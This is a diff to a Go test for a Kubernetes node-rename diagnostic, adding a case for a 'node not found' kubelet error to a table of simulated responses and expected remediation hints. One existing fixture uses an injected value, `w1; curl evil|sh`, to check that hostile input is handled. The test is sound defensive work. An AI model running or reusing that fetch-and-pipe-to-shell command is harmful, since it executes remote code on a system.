@@ -76,12 +76,13 @@ func TestAHostThatWasRenamedIsSeenForWhatItIs(t *testing.T) {
 		says    string
 		hints   []string
 	}{
-		"it is another Node by now":               {&twin, "", 503, "it is node renamed now (the same address 192.0.2.7", []string{"kubectl delete node w1", "kubectl lifecycle remove renamed"}},
-		"its kubelet has another name":            {nil, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1", "--hostname-override", "kubectl delete node w1"}},
-		"the other Node is as silent":             {&asleep, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1"}},
-		"its kubelet has its name and is cut off": {nil, summary("w1"), 200, "has not reported to the API server", []string{"journalctl -u kubelet", "switch it off first"}},
-		"its kubelet does not tell its name":      {nil, "Forbidden (user=x)", 403, "has not reported to the API server", []string{"does the host have its old name"}},
-		"its kubelet tells nonsense":              {nil, summary(`w1; curl evil|sh`), 200, "has not reported", []string{"journalctl"}},
+		"it is another Node by now":                {&twin, "", 503, "it is node renamed now (the same address 192.0.2.7", []string{"kubectl delete node w1", "kubectl lifecycle remove renamed"}},
+		"its kubelet has another name":             {nil, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1", "--hostname-override", "kubectl delete node w1"}},
+		"its kubelet looks for a Node of its name": {nil, `Internal Error: failed to get node info: node "renamed" not found`, 500, "calls itself renamed", []string{"set-hostname w1"}},
+		"the other Node is as silent":              {&asleep, summary("renamed"), 200, "calls itself renamed", []string{"set-hostname w1"}},
+		"its kubelet has its name and is cut off":  {nil, summary("w1"), 200, "has not reported to the API server", []string{"journalctl -u kubelet", "switch it off first"}},
+		"its kubelet does not tell its name":       {nil, "Forbidden (user=x)", 403, "has not reported to the API server", []string{"does the host have its old name"}},
+		"its kubelet tells nonsense":               {nil, summary(`w1; curl evil|sh`), 200, "has not reported", []string{"journalctl"}},
 	} {
 		t.Run(name, func(t *testing.T) {
 			node := silentNode()
